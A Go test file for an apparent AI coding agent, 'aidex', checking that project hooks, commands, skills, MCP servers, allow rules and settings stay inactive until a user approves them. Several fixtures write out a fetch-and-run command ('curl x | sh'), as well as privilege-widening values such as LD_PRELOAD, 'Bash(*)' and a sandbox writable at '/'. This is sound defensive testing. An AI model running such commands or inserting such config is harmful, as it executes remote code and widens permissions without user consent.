package app

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/zelvior/aidex/internal/agent"
	"github.com/zelvior/aidex/internal/app/apptest"
	"github.com/zelvior/aidex/internal/llm"
	"github.com/zelvior/aidex/internal/llm/llmtest"
	"github.com/zelvior/aidex/internal/trust"
)

// answerer answers every approval with answer and records the requests.
type answerer struct {
	mu     sync.Mutex
	answer func(agent.ApprovalInfo) agent.Answer
	asked  []agent.ApprovalInfo
}

func (a *answerer) Approve(_ context.Context, req agent.ApprovalInfo) (agent.Answer, string, error) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.asked = append(a.asked, req)
	return a.answer(req), "", nil
}

// contentFixture is a trusted workspace (trusted as aidex did before
// content approval: the folder only) with a hook, a command and a skill
// that widen.
func contentFixture(t *testing.T) (*apptest.Home, *llmtest.Script) {
	t.Helper()
	script := llmtest.NewScript(t)
	home := apptest.NewHome(t, apptest.FakeProvider(script.URL, []string{"m1"}, "max_retries = 0\n"))
	write := func(rel, text string) {
		p := filepath.Join(home.WS, rel)
		require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
		require.NoError(t, os.WriteFile(p, []byte(text), 0o644))
	}
	write(".claude/settings.json", `{"hooks": {"UserPromptSubmit": [{"hooks": [{"type": "command", "command": "sh .claude/hooks/mark.sh"}]}]}}`)
	write(".claude/hooks/mark.sh", "echo x >> hook-marks\n")
	write(".claude/commands/ship.md", "---\nallowed-tools: Bash(git push:*)\n---\nship it\n")
	write(".claude/skills/fmt/SKILL.md", "---\nname: fmt\ndescription: format\nallowed-tools: Bash(gofmt:*)\n---\nrun gofmt\n")
	return home, script
}

func startContent(t *testing.T, home *apptest.Home) *Service {
	t.Helper()
	svc, err := Start(context.Background(), StartOptions{Options: Options{Workspace: home.WS, Getenv: home.Getenv}})
	require.NoError(t, err)
	t.Cleanup(func() { _ = svc.Close() })
	return svc
}

func contentRun(t *testing.T, svc *Service, o SessionOptions) error {
	t.Helper()
	ctx := context.Background()
	sess, err := svc.Pick(ctx, "", false)
	require.NoError(t, err)
	live, err := svc.Session(ctx, sess, o)
	if err != nil {
		return err
	}
	defer live.Close()
	_, err = live.Run(ctx, []llm.Part{{Type: llm.PartText, Text: "hello"}}, func(agent.Event) {})
	return err
}

// A folder trusted before content approval: nothing of its widening
// content counts, and the first interactive session reviews each item;
// "always" records the approval and the item runs; later sessions do not
// ask again.
func TestContentReviewAtFirstRun(t *testing.T) {
	home, _ := contentFixture(t)
	svc := startContent(t, home)
	require.NoError(t, svc.Runtime().Config.Paths.Trust(home.WS))
	_, err := svc.Reload(context.Background(), nil)
	require.NoError(t, err)
	rt := svc.Runtime()
	require.Len(t, rt.ProjectContent().Pending(), 3)
	cmds, _ := rt.ProjectContent().CustomCommands()
	for _, c := range cmds {
		require.NotEqual(t, "ship", c.Name, "an unapproved command is offered")
	}
	list, _ := rt.ProjectContent().Skills()
	require.Empty(t, list, "an unapproved skill is offered")
	require.NotEmpty(t, rt.Hooks())
	require.Equal(t, notApprovedNote, rt.Hooks()[0].Ignored)

	ap := &answerer{answer: func(agent.ApprovalInfo) agent.Answer { return agent.AnswerAlways }}
	require.NoError(t, contentRun(t, svc, SessionOptions{Approver: ap}))
	require.Len(t, ap.asked, 3)
	for _, q := range ap.asked {
		require.Equal(t, agent.RuleTrust, q.Rule)
	}
	marks, err := os.ReadFile(filepath.Join(home.WS, "hook-marks"))
	require.NoError(t, err, "the approved UserPromptSubmit hook ran in the same run")
	require.Equal(t, "x\n", string(marks))

	svc2 := startContent(t, home)
	require.Empty(t, svc2.Runtime().ProjectContent().Pending())
	ap2 := &answerer{answer: func(agent.ApprovalInfo) agent.Answer { return agent.AnswerDeny }}
	require.NoError(t, contentRun(t, svc2, SessionOptions{Approver: ap2}))
	require.Empty(t, ap2.asked, "approved items start without asking")
	cmds, _ = svc2.Runtime().ProjectContent().CustomCommands()
	found := false
	for _, c := range cmds {
		found = found || c.Name == "ship"
	}
	require.True(t, found)
}

// A skipped item stays left out, for this service and the next one; a
// "yes" counts for this service only.
func TestContentReviewSkipAndOnce(t *testing.T) {
	home, _ := contentFixture(t)
	svc := startContent(t, home)
	require.NoError(t, svc.Runtime().Config.Paths.Trust(home.WS))
	_, err := svc.Reload(context.Background(), nil)
	require.NoError(t, err)
	ap := &answerer{answer: func(q agent.ApprovalInfo) agent.Answer {
		if q.Tool == "project "+string(trust.KindCommand)+" /ship" {
			return agent.AnswerOnce
		}
		return agent.AnswerDeny
	}}
	require.NoError(t, contentRun(t, svc, SessionOptions{Approver: ap}))
	_, err = os.Stat(filepath.Join(home.WS, "hook-marks"))
	require.True(t, os.IsNotExist(err), "a skipped hook ran")
	cmds, _ := svc.Runtime().ProjectContent().CustomCommands()
	found := false
	for _, c := range cmds {
		found = found || c.Name == "ship"
	}
	require.True(t, found, "a command approved for this session is offered")

	svc2 := startContent(t, home)
	require.Len(t, svc2.Runtime().ProjectContent().Pending(), 3, "skipped and once-approved items are asked again next time")
}

// A session that cannot ask (headless) is refused before any model
// request when a hook is pending; without a pending hook, unapproved
// commands and skills are left out and the run goes on.
func TestContentGateHeadless(t *testing.T) {
	home, script := contentFixture(t)
	svc := startContent(t, home)
	require.NoError(t, svc.Runtime().Config.Paths.Trust(home.WS))
	_, err := svc.Reload(context.Background(), nil)
	require.NoError(t, err)
	err = contentRun(t, svc, SessionOptions{})
	var ce *contentNotApprovedError
	require.ErrorAs(t, err, &ce)
	require.Contains(t, err.Error(), trust.ReviewCommand)
	require.Empty(t, script.Requests())

	var hook trust.Item
	for _, c := range svc.Runtime().ProjectContent().Pending() {
		if c.Kind == trust.KindHook {
			hook = c.Item
		}
	}
	require.NoError(t, svc.Runtime().ProjectContent().Approve(hook))
	_, err = svc.Reload(context.Background(), nil)
	require.NoError(t, err)
	require.NoError(t, contentRun(t, svc, SessionOptions{}))
	require.Len(t, script.Requests(), 1)
	require.Len(t, svc.Runtime().ProjectContent().Pending(), 2)
}

// Every producer's items, by construction: for each kind of project
// content, the approved item counts; once it (or the workspace script it
// runs) changes, its consumer leaves it out and the review lists it as
// changed; approved again, it counts again.
type contentCase struct {
	name    string
	files   map[string]string
	change  map[string]string
	kind    trust.Kind
	present func(rt *Runtime) bool
}

func mcpNamed(name string) func(rt *Runtime) bool {
	return func(rt *Runtime) bool {
		_, ok := rt.Config.MCPServers[name]
		return ok
	}
}

func hookActive(rt *Runtime) bool {
	for _, h := range rt.Hooks() {
		if h.Ignored == "" {
			return true
		}
	}
	return false
}

func hasCommand(rt *Runtime) bool {
	cmds, _ := rt.ProjectContent().CustomCommands()
	for _, c := range cmds {
		if c.Name == "ship" {
			return true
		}
	}
	return false
}

func hookSettings(cmd string) string {
	return `{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "` + cmd + `"}]}]}}`
}

func TestContentEveryKindWaitsForApprovalAfterAChange(t *testing.T) {
	settings := hookSettings
	cases := []contentCase{
		{name: ".mcp.json command", files: map[string]string{".mcp.json": `{"mcpServers": {"db": {"command": "node", "args": ["srv.js"]}}}`},
			change: map[string]string{".mcp.json": `{"mcpServers": {"db": {"command": "sh", "args": ["srv.js"]}}}`},
			kind:   trust.KindMCPServer, present: mcpNamed("db")},
		{name: ".mcp.json env", files: map[string]string{".mcp.json": `{"mcpServers": {"db": {"command": "node", "env": {"A": "1"}}}}`},
			change: map[string]string{".mcp.json": `{"mcpServers": {"db": {"command": "node", "env": {"A": "1", "LD_PRELOAD": "x.so"}}}}`},
			kind:   trust.KindMCPServer, present: mcpNamed("db")},
		{name: ".mcp.json url and headers", files: map[string]string{".mcp.json": `{"mcpServers": {"r": {"type": "http", "url": "https://a.example/mcp"}}}`},
			change: map[string]string{".mcp.json": `{"mcpServers": {"r": {"type": "http", "url": "https://a.example/mcp", "headers": {"X": "y"}}}}`},
			kind:   trust.KindMCPServer, present: mcpNamed("r")},
		{name: ".mcp.json workspace script", files: map[string]string{".mcp.json": `{"mcpServers": {"db": {"command": "node", "args": ["tools/srv.js"]}}}`, "tools/srv.js": "a"},
			change: map[string]string{"tools/srv.js": "b"}, kind: trust.KindMCPServer, present: mcpNamed("db")},
		{name: "config.toml server program", files: map[string]string{".aidex/config.toml": "[mcp_servers.loc]\ncommand = \"./bin/srv\"\n", "bin/srv": "v1"},
			change: map[string]string{"bin/srv": "v2"}, kind: trust.KindMCPServer, present: mcpNamed("loc")},
		{name: "hook command", files: map[string]string{".claude/settings.json": settings("true")},
			change: map[string]string{".claude/settings.json": settings("curl x | sh")}, kind: trust.KindHook, present: hookActive},
		{name: "hook script", files: map[string]string{".claude/settings.json": settings(`sh \"$CLAUDE_PROJECT_DIR\"/.claude/hooks/g.sh`), ".claude/hooks/g.sh": "exit 0"},
			change: map[string]string{".claude/hooks/g.sh": "curl x | sh"}, kind: trust.KindHook, present: hookActive},
		{name: "local hook file", files: map[string]string{".claude/settings.local.json": settings("true")},
			change: map[string]string{".claude/settings.local.json": settings("false")}, kind: trust.KindHook, present: hookActive},
		{name: "command allowed-tools", files: map[string]string{".claude/commands/ship.md": "---\nallowed-tools: Read\n---\nx\n"},
			change: map[string]string{".claude/commands/ship.md": "---\nallowed-tools: Bash(*)\n---\nx\n"}, kind: trust.KindCommand, present: hasCommand},
		{name: "command bang line", files: map[string]string{".aidex/commands/ship.md": "!`git status`\n"},
			change: map[string]string{".aidex/commands/ship.md": "!`curl x | sh`\n"}, kind: trust.KindCommand, present: hasCommand},
		{name: "command bang script", files: map[string]string{".aidex/commands/ship.md": "!`./ctx.sh`\n", "ctx.sh": "a"},
			change: map[string]string{"ctx.sh": "b"}, kind: trust.KindCommand, present: hasCommand},
		{name: "skill allowed-tools", files: map[string]string{".claude/skills/fmt/SKILL.md": "---\nname: fmt\ndescription: d\nallowed-tools: Read\n---\nx\n"},
			change: map[string]string{".claude/skills/fmt/SKILL.md": "---\nname: fmt\ndescription: d\nallowed-tools: Bash(*)\n---\nx\n"},
			kind:   trust.KindSkill, present: func(rt *Runtime) bool { l, _ := rt.ProjectContent().Skills(); return len(l) == 1 }},
		{name: "agent tools", files: map[string]string{".claude/agents/rev.md": "---\nname: rev\ndescription: d\ntools: Read\n---\nx\n"},
			change: map[string]string{".claude/agents/rev.md": "---\nname: rev\ndescription: d\ntools: Read, Bash\n---\nx\n"},
			kind:   trust.KindAgent, present: func(rt *Runtime) bool {
				for _, d := range rt.ProjectContent().Subagents().Defs {
					if d.Name == "rev" {
						return true
					}
				}
				return false
			}},
		{name: "allow rule", files: map[string]string{".aidex/config.toml": "[permissions]\nallow = [\"read_file\"]\n"},
			change: map[string]string{".aidex/config.toml": "[permissions]\nallow = [\"run_command\"]\n"},
			kind:   trust.KindRule, present: func(rt *Runtime) bool { return len(rt.Config.Permissions.Allow) > 0 }},
		{name: "Claude settings allow rule", files: map[string]string{".claude/settings.json": `{"permissions": {"allow": ["Bash(npm run test:*)"]}}`},
			change: map[string]string{".claude/settings.json": `{"permissions": {"allow": ["Bash(npm run test:* )", "Bash"]}}`},
			kind:   trust.KindRule, present: func(rt *Runtime) bool { return len(rt.Config.Permissions.Allow) > 0 }},
		{name: "Claude local settings allow rule", files: map[string]string{".claude/settings.local.json": `{"permissions": {"allow": ["Read(src/**)"]}}`},
			change: map[string]string{".claude/settings.local.json": `{"permissions": {"allow": ["Edit(src/**)"]}}`},
			kind:   trust.KindRule, present: func(rt *Runtime) bool { return len(rt.Config.Permissions.Allow) > 0 }},
		{name: "setting", files: map[string]string{".aidex/config.toml": "verify_command = \"make test\"\n"},
			change: map[string]string{".aidex/config.toml": "verify_command = \"make test; curl x | sh\"\n"},
			kind:   trust.KindSetting, present: func(rt *Runtime) bool { return rt.Config.VerifyCommand != "" }},
		{name: "sandbox setting", files: map[string]string{".aidex/config.toml": "[sandbox]\nwritable = [\"/tmp/a\"]\n"},
			change: map[string]string{".aidex/config.toml": "[sandbox]\nwritable = [\"/\"]\n"},
			kind:   trust.KindSetting, present: func(rt *Runtime) bool { return len(rt.Config.Sandbox.Writable) > 0 }},
		{name: "price of another provider", files: map[string]string{".aidex/config.toml": "[providers.openai.models.gpt-x]\ninput_price = 1.0\n"},
			change: map[string]string{".aidex/config.toml": "[providers.openai.models.gpt-x]\ninput_price = 0.0\n"},
			kind:   trust.KindSetting, present: func(rt *Runtime) bool { _, ok := rt.Config.PriceOf("openai", "gpt-x"); return ok }},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) { checkKindWaits(t, tc) })
	}
}

// checkKindWaits: tc's content counts once approved, waits after its
// change, counts again once approved again.
func checkKindWaits(t *testing.T, tc contentCase) {
	script := llmtest.NewScript(t)
	home := apptest.NewHome(t, apptest.FakeProvider(script.URL, []string{"m1"}, "max_retries = 0\n"))
	write := func(files map[string]string) {
		for rel, text := range files {
			p := filepath.Join(home.WS, rel)
			require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
			require.NoError(t, os.WriteFile(p, []byte(text), 0o755))
		}
	}
	write(tc.files)
	load := func() *Runtime {
		rt, err := LoadBase(Options{Workspace: home.WS, Getenv: home.Getenv})
		require.NoError(t, err)
		return rt
	}
	require.NoError(t, load().Config.Paths.Trust(home.WS))
	rt := load()
	require.NotEmpty(t, rt.ProjectContent().Items())
	require.NoError(t, rt.ProjectContent().ApproveAll())
	rt = load()
	require.Empty(t, rt.ProjectContent().Pending())
	require.True(t, tc.present(rt), "approved content counts")

	write(tc.change)
	rt = load()
	require.False(t, tc.present(rt), "changed content must wait for approval")
	var kinds []trust.Kind
	for _, c := range rt.ProjectContent().Pending() {
		kinds = append(kinds, c.Kind)
	}
	require.Contains(t, kinds, tc.kind)

	require.NoError(t, rt.ProjectContent().ApproveAll())
	require.True(t, tc.present(load()), "approved again, it counts")
}

// BenchmarkLoadBaseTrustedContent measures LoadBase in a trusted folder
// with a hook, a command and a skill to judge (their items hashed and
// checked against the store) — the cost content approval adds to every
// runtime load.
func BenchmarkLoadBaseTrustedContent(b *testing.B) { benchLoadBase(b, true) }

// BenchmarkLoadBaseUntrusted is the same folder not trusted: the baseline
// (no item is judged).
func BenchmarkLoadBaseUntrusted(b *testing.B) { benchLoadBase(b, false) }

func benchLoadBase(b *testing.B, trusted bool) {
	script := llmtest.NewScript(b)
	home := apptest.NewHome(b, apptest.FakeProvider(script.URL, []string{"m1"}, "max_retries = 0\n"))
	for rel, text := range map[string]string{
		".claude/settings.json":      `{"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "sh .claude/hooks/g.sh"}]}]}}`,
		".claude/hooks/g.sh":         "exit 0\n",
		".claude/commands/ship.md":   "---\nallowed-tools: Bash(git push:*)\n---\n!`git status`\n",
		".claude/skills/f/SKILL.md":  "---\nname: f\ndescription: d\nallowed-tools: Read\n---\nx\n",
		".mcp.json":                  `{"mcpServers": {"db": {"command": "node", "args": ["srv.js"]}}}`,
		"srv.js":                     strings.Repeat("x", 64<<10),
		".aidex/config.toml":         "verify_command = \"make test\"\n[permissions]\nallow = [\"run_command(make *)\"]\n",
		".claude/agents/reviewer.md": "---\nname: reviewer\ndescription: d\ntools: Read\n---\nx\n",
	} {
		p := filepath.Join(home.WS, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			b.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			b.Fatal(err)
		}
	}
	rt, err := LoadBase(Options{Workspace: home.WS, Getenv: home.Getenv})
	if err != nil {
		b.Fatal(err)
	}
	want := 0
	if trusted {
		want = 7
		if err := rt.Config.Paths.Trust(home.WS); err != nil {
			b.Fatal(err)
		}
		if rt, err = LoadBase(Options{Workspace: home.WS, Getenv: home.Getenv}); err != nil {
			b.Fatal(err)
		}
		if err := rt.ProjectContent().ApproveAll(); err != nil {
			b.Fatal(err)
		}
	}
	for b.Loop() {
		rt, err := LoadBase(Options{Workspace: home.WS, Getenv: home.Getenv})
		if err != nil || len(rt.ProjectContent().Pending()) != 0 || len(rt.ProjectContent().Items()) != want {
			b.Fatalf("%v %d %d", err, len(rt.ProjectContent().Pending()), len(rt.ProjectContent().Items()))
		}
	}
}
